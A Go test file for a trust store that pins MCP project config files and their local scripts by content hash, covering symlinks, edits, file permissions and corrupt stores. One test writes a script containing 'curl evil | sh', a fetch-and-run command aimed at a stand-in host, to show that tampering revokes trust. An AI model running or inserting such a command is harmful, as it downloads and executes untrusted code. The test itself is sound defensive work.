package trust

import (
	"os"
	"path/filepath"
	"testing"
)

func TestTrustFollowsContentThroughSymlinks(t *testing.T) {
	dir := t.TempDir()
	s := New(filepath.Join(dir, "home"))
	real := filepath.Join(dir, "real.json")
	link := filepath.Join(dir, "project", ".mcp.json")
	_ = os.MkdirAll(filepath.Dir(link), 0o755)
	if err := os.WriteFile(real, []byte(`{"mcpServers":{}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	if st, err := s.Check(link); err != nil || st.Trusted || st.Changed {
		t.Fatalf("fresh: %+v %v", st, err)
	}
	file, _ := ProjectFile(filepath.Dir(link))
	if file != link {
		t.Fatalf("ProjectFile(dir) = %s", file)
	}
	if _, err := s.Trust(link, nil); err != nil {
		t.Fatal(err)
	}
	if st, _ := s.Check(link); !st.Trusted || st.Real != link {
		t.Fatalf("after trust: %+v", st)
	}
	// Another repository whose .mcp.json links to the trusted file is not
	// trusted with it: its own scripts would run, in its own folder.
	evil := filepath.Join(dir, "evil", ".mcp.json")
	_ = os.MkdirAll(filepath.Dir(evil), 0o755)
	if err := os.Symlink(link, evil); err != nil {
		t.Fatal(err)
	}
	if st, _ := s.Check(evil); st.Trusted {
		t.Fatalf("a link to a trusted project's file inherited its trust: %+v", st)
	}
	// An edit, even of one byte, needs trusting again.
	_ = os.WriteFile(real, []byte(`{"mcpServers":{} }`), 0o644)
	if st, _ := s.Check(link); st.Trusted || !st.Changed {
		t.Fatalf("after an edit: %+v", st)
	}
	fi, err := os.Stat(filepath.Join(dir, "home", FileName))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("trust file mode: %v %v", fi, err)
	}
	if had, _ := s.Untrust(link); !had {
		t.Fatal("untrust forgot nothing")
	}
	if st, _ := s.Check(link); st.Trusted || st.Changed {
		t.Fatalf("after untrust: %+v", st)
	}
	// A corrupt store is refused, not overwritten.
	_ = os.WriteFile(filepath.Join(dir, "home", FileName), []byte("{bad"), 0o600)
	if _, err := s.Trust(link, nil); err == nil {
		t.Fatal("a corrupt trust store was overwritten")
	}
}

// A project's own script, run by a trusted entry, is part of what was
// trusted: an edit to it blocks the project as an edit to .mcp.json does.
func TestTrustCoversLocalFiles(t *testing.T) {
	dir := t.TempDir()
	s := New(filepath.Join(dir, "home"))
	project := filepath.Join(dir, "project")
	_ = os.MkdirAll(project, 0o755)
	file := filepath.Join(project, ".mcp.json")
	script := filepath.Join(project, "serve.sh")
	_ = os.WriteFile(file, []byte(`{"s":{"command":"./serve.sh"}}`), 0o644)
	_ = os.WriteFile(script, []byte("#!/bin/sh\nexec true\n"), 0o755)
	if _, err := s.Trust(file, []string{script}); err != nil {
		t.Fatal(err)
	}
	if st, _ := s.Check(file); !st.Trusted {
		t.Fatalf("after trust: %+v", st)
	}
	_ = os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	if st, _ := s.Check(file); st.Trusted || !st.Changed || len(st.ChangedFiles) != 1 || st.ChangedFiles[0] != script {
		t.Fatalf("after the script changed: %+v", st)
	}
	_ = os.Remove(script)
	if st, _ := s.Check(file); st.Trusted || len(st.ChangedFiles) != 1 {
		t.Fatalf("after the script went: %+v", st)
	}
}

// A folder without .mcp.json can be trusted (the home servers may run in
// it); a .mcp.json that appears there later is not.
func TestTrustFolderWithoutProjectFile(t *testing.T) {
	dir := t.TempDir()
	s := New(filepath.Join(dir, "home"))
	file, _ := ProjectFile(dir)
	if st, err := s.Trust(file, nil); err != nil || st.SHA256 != NoFile {
		t.Fatalf("trust a folder: %+v %v", st, err)
	}
	if st, err := s.CheckSum(file, NoFile); err != nil || !st.Trusted {
		t.Fatalf("check: %+v %v", st, err)
	}
	_ = os.WriteFile(file, []byte(`{}`), 0o644)
	if st, _ := s.Check(file); st.Trusted || !st.Changed {
		t.Fatalf("a new .mcp.json: %+v", st)
	}
}
